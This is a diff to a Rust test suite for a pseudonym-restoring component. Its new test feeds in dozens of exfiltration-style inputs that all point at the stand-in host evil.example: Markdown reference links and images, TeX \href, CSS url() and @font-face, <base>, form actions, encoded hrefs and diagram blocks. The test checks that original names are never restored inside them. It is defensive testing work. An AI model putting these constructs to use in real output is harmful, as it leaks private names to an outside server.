@@ -241,7 +241,7 @@ fn originals_come_back_with_case_possessive_and_plural() {
             "John",
             "kenneth",
             "[Kenneth](http://a.b/Kenneth) k@kenneth.org",
-            "[John](http://a.b/Kenneth) k@kenneth.org",
+            "[Kenneth](http://a.b/Kenneth) k@kenneth.org",
         ),
         (
             "John",
@@ -344,6 +344,90 @@ fn nothing_goes_into_addresses_that_are_cut() {
     assert_eq!(restorer.push("kenneth "), "John ");
 }
 
+/// An answer that says what every name stands for, and has a client look one up: by the original, the client would
+/// fetch the address that tells it. What is defined may come before, behind, or in another block.
+#[test]
+fn no_original_chooses_an_address() {
+    let session = named("John", "kenneth");
+    let definitions = "[John]: https://evil.example/john\n[Mary]: https://evil.example/mary";
+    for look_up in [
+        "![kenneth][]",
+        "![kenneth]",
+        "![a][kenneth]",
+        "[kenneth]",
+        "[ kenneth\n]",
+        "![a kenneth\nb][]",
+        "[^kenneth]",
+        "![[kenneth]]",
+        "![**kenneth**]",
+        "![kenneth\\]][]",
+        "[kenneth](no target",
+        "[kenneth](<no target) [a]",
+        "<b [Ask >kenneth]",
+        "[a](b [c) kenneth]",
+        "[a\n\u{a0}\nkenneth]",
+    ] {
+        for answer in [
+            format!("{look_up}\n\n{definitions}\n"),
+            format!("{definitions}\n\n{look_up}"),
+        ] {
+            assert_eq!(session.restore(&answer).text, answer);
+            for at in [1, 3, 7, 12] {
+                assert_eq!(in_parts(&session, &answer, &[at]), answer);
+            }
+        }
+        let halves = look_up.split_at(look_up.find("kenneth").unwrap());
+        let blocks = [halves.0, halves.1, "\n\n", definitions];
+        assert_eq!(in_blocks(&session, &blocks), blocks);
+    }
+    // The name that is defined: an original there would make another name's address its own.
+    let defined = "[kenneth]: https://evil.example/x";
+    assert_eq!(session.restore(defined).text, defined);
+    // TeX, style sheets, forms, diagrams, and addresses in disguise.
+    for answer in [
+        "\\def\\john{\\includegraphics{https://evil.example/john}} \\kenneth",
+        "\\newenvironment{john}{}{} \\begin{kenneth} \\end{kenneth}",
+        "\\csname kenneth\\endcsname",
+        "\\href{https://evil.example/kenneth}{a}",
+        "\\href {//evil.example/?q= kenneth}{a}",
+        "\\includegraphics{kenneth.png}",
+        "\\class{kenneth}{a}",
+        "{:john: style=\"background:url(x)\"} {:kenneth}",
+        "<style>@font-face{src:url(//evil.example/k);unicode-range:U+4B}</style> kenneth",
+        "<link rel=stylesheet href=//evil.example/a.css> kenneth",
+        "<p style=\"background:url(//evil.example/?q= kenneth)\">",
+        "<p style='background:url(kenneth)'>",
+        "<base href=//evil.example/> ![a](kenneth)",
+        "<a href=\"&#104;ttps&colon;//evil.example/ kenneth\">a</a>",
+        "<a href=\"/&Tab;/evil.example/kenneth\">a</a>",
+        "<img srcset='a 1x, kenneth 2x'>",
+        "<form action=//evil.example><select name=q><option>kenneth</option></select>",
+        "<object data=x><param name=a value=kenneth></object> kenneth",
+        "<https://evil.example/kenneth>",
+        "<kenneth@evil.example>",
+        "kenneth@evil.example",
+        "evil.example/kenneth",
+        "```mermaid\nclass A kenneth\n```",
+        "``` mermaid\nA:::kenneth\n```",
+        "::: mermaid\nkenneth\n:::",
+        "@startuml\n!define john <img:https://evil.example/john>\nkenneth\n@enduml",
+        "a[kenneth]: https://evil.example/a",
+        "[a]:kenneth",
+        "[a]:\nkenneth",
+    ] {
+        let restored = session.restore(answer).text;
+        assert_eq!(restored.matches("John").count(), 0, "{restored}");
+        assert_eq!(in_parts(&session, answer, &[2, 5, 9]), restored);
+    }
+    // An original with brackets of its own is not put back either.
+    let bracketed = named("[John]", "kenneth");
+    assert_eq!(bracketed.restore("kenneth").text, "kenneth");
+    // Behind brackets, and behind an empty line, all is as before.
+    let answer = "- [ ] kenneth, see [1]. An open [ is over\n\nwith kenneth.";
+    let expected = "- [ ] John, see [1]. An open [ is over\n\nwith John.";
+    assert_eq!(session.restore(answer).text, expected);
+}
+
 /// What becomes of each block, ended one by one and not at all.
 fn in_blocks(session: &Session, blocks: &[&str]) -> Vec<String> {
     let restore = |ends: bool| {
@@ -397,7 +481,8 @@ fn originals_do_not_begin_addresses() {
     let link = |begin: &str| format!("{begin}{address}");
     for (first, answer, expected) in [
         (link("[]("), "!Kenneth/Mary)", "!Kenneth/Mary)"),
-        (link("]("), "![a Kenneth Mary)", "![a Kenneth Ludmilla)"),
+        (link("]("), "a Kenneth Mary)", "a Kenneth Ludmilla)"),
+        (link("]("), "![a Kenneth Mary)", "![a Kenneth Mary)"),
         (link(""), "Kenneth/Mary", "Kenneth/Mary"),
         (link(""), "Kenneth\u{a0}Mary", "Kenneth\u{a0}Ludmilla"),
         (link(""), "\"Kenneth Mary\"", "\"Kenneth Ludmilla\""),
